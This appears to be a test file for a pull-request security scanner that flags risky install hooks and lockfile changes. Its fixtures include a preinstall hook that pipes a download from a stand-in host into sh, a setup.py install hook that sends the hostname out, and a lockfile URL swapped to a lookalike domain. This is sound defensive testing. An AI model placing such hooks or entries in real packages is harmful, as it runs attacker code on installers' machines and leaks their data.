"""Install hooks added to manifests; lockfile entries from another host or with a new hash at the same version."""
from __future__ import annotations

from prguard import findings
from tests.support.pr_content import changed, hunk
from tests.support.pull_requests import pull_request


def found(doc, rule: str):
    return [(f.severity.label, f.path, f.line) for f in findings.check(doc, runner=None).findings
            if f.rule_id == f"prguard/{rule}"]


SCRIPTS = ['  "scripts": {', '    "build": "tsc -p .",']


def test_an_npm_postinstall_that_runs_a_bundle_is_medium_and_one_that_downloads_is_high():
    bundle = changed("package.json", hunk(8, SCRIPTS, added=['    "postinstall": "node bundle.js",']))
    fetches = changed("package.json", hunk(8, SCRIPTS, added=['    "preinstall": "curl -s https://x.example/i | sh",']))
    assert found(pull_request(bundle), "install-hook") == [("medium", "package.json", 10)]
    assert found(pull_request(fetches), "install-hook") == [("high", "package.json", 10)]


def test_prepare_and_ordinary_scripts_are_not_install_hooks():
    husky = changed("package.json", hunk(8, SCRIPTS, added=['    "prepare": "husky install",', '    "test": "vitest run",']))
    moved = changed("package.json", hunk(8, SCRIPTS, removed=['    "postinstall": "patch-package"'],
                                         context_after=['    "lint": "eslint ."']))
    assert found(pull_request(husky, moved), "install-hook") == []


def test_a_setup_py_cmdclass_that_reaches_the_network_is_high():
    patch = hunk(1, added=["from setuptools.command.install import install", "import urllib.request",
                           "class PostInstall(install):", "    def run(self):",
                           "        urllib.request.urlopen('https://x.example/c?h=' + os.uname()[1])",
                           "        install.run(self)"], context_after=["setup(", "    name='tinyparse',"])
    assert found(pull_request(changed("setup.py", patch)), "install-hook") == [("high", "setup.py", 3)]
    plain = hunk(20, ["setup("], added=["    cmdclass={'build_py': BuildWithGrammar},"])
    assert found(pull_request(changed("setup.py", plain)), "install-hook") == [("medium", "setup.py", 21)]


LOCK_CONTEXT = ['    "node_modules/left-pad": {', '      "version": "1.3.0",']


def test_a_resolved_url_moved_to_another_host_without_the_manifest_is_high():
    patch = hunk(812, LOCK_CONTEXT,
                 removed=['      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",'],
                 added=['      "resolved": "https://raw.githubusercontents.net/left-pad-1.3.0.tgz",'])
    assert found(pull_request(changed("package-lock.json", patch)), "lockfile-foreign-host") == [
        ("high", "package-lock.json", 814)]


def test_a_private_registry_the_lockfile_already_uses_and_a_refresh_with_its_manifest_are_not_high():
    private = hunk(40, ['    "node_modules/@acme/ui": {'],
                   removed=['      "version": "2.1.0",',
                            '      "resolved": "https://npm.acme.internal/@acme/ui/-/ui-2.1.0.tgz",'],
                   added=['      "version": "2.2.0",',
                          '      "resolved": "https://npm.acme.internal/@acme/ui/-/ui-2.2.0.tgz",'])
    assert found(pull_request(changed("package-lock.json", private)), "lockfile-foreign-host") == []
    git_dep = hunk(10, ['[[package]]', 'name = "tinyparse-grammar"'],
                   added=['source = { git = "https://gitlab.com/acme/grammar.git?rev=4f1c2e9" }'])
    doc = pull_request(changed("pyproject.toml", hunk(12, added=['grammar = { git = "https://gitlab.com/acme/grammar.git" }'])),
                       changed("uv.lock", git_dep))
    assert found(doc, "lockfile-foreign-host") == [("medium", "uv.lock", 12)]
    upgrade = hunk(3, ['[[package]]', 'name = "requests"'], removed=['version = "2.31.0"'], added=['version = "2.32.3"'],
                   context_after=['source = { registry = "https://pypi.org/simple" }'])
    assert found(pull_request(changed("uv.lock", upgrade)), "lockfile-foreign-host") == []


def test_a_hash_that_changes_at_the_same_version_is_high():
    npm = hunk(812, LOCK_CONTEXT + ['      "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz",'],
               removed=['      "integrity": "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQ9D9ld1eZvo8PdBuzuiOOw6Du3glbmHQtFUOqSKqnQE9kKA==",'],
               added=['      "integrity": "sha512-Bd7gs4Zdo7wQm7QeK1hTt3FSfTYmYdFPvGwm8SVhwbm7BM5D4lBUi6wSLTkUeRn8rLpUVfY8kJmYwbr3rhqfNQ==",'])
    gosum = hunk(30, removed=["golang.org/x/net v0.23.0 h1:7EYJ93RZ9vYSZAIb2x3lnuvqO5zneoD6IvWjuhfxjTs="],
                 added=["golang.org/x/net v0.23.0 h1:qjKJ2JnqkCRhWZwT6sgvgrkNxbLtGdjEwbXaPkMeVpY="])
    assert found(pull_request(changed("package-lock.json", npm)), "lockfile-hash-change") == [
        ("high", "package-lock.json", 815)]
    assert found(pull_request(changed("go.sum", gosum)), "lockfile-hash-change") == [("high", "go.sum", 30)]


def test_hashes_that_move_with_their_version_or_a_format_upgrade_are_not_findings():
    bump = hunk(812, ['    "node_modules/left-pad": {'],
                removed=['      "version": "1.3.0",', '      "integrity": "sha512-XI5MPzVNApjAyhQzphX8BkmKsKUxD4LdyK24iZeQ9D9ld1eZvo8PdBuzuiOOw6Du3glbmHQtFUOqSKqnQE9kKA==",'],
                added=['      "version": "1.3.1",', '      "integrity": "sha512-Bd7gs4Zdo7wQm7QeK1hTt3FSfTYmYdFPvGwm8SVhwbm7BM5D4lBUi6wSLTkUeRn8rLpUVfY8kJmYwbr3rhqfNQ==",'])
    sha1_to_sha512 = hunk(20, ['      "version": "4.17.21",'],
                          removed=['      "integrity": "sha1-4j8/nE+Pvd6HJSnBBxhXoIblzO8=",'],
                          added=['      "integrity": "sha512-v2kDEe57lecTulaDIuNTPy3Ry4gLGJ6Z1O3vE1krgXZNrsQ+LFTGHVxVjcXPs17LhbZVGedAJv8XZ1tvj5FvSg==",'])
    gosum = hunk(30, removed=["golang.org/x/net v0.23.0 h1:7EYJ93RZ9vYSZAIb2x3lnuvqO5zneoD6IvWjuhfxjTs="],
                 added=["golang.org/x/net v0.24.0 h1:1PcaxkF854Fu3+lvBIx5SYn9wRlBzzcnHZSiaFFAb0w="])
    doc = pull_request(changed("package.json", hunk(5, removed=['"left-pad": "1.3.0"'], added=['"left-pad": "1.3.1"'])),
                       changed("package-lock.json", bump + "\n" + sha1_to_sha512), changed("go.sum", gosum))
    assert found(doc, "lockfile-hash-change") == []
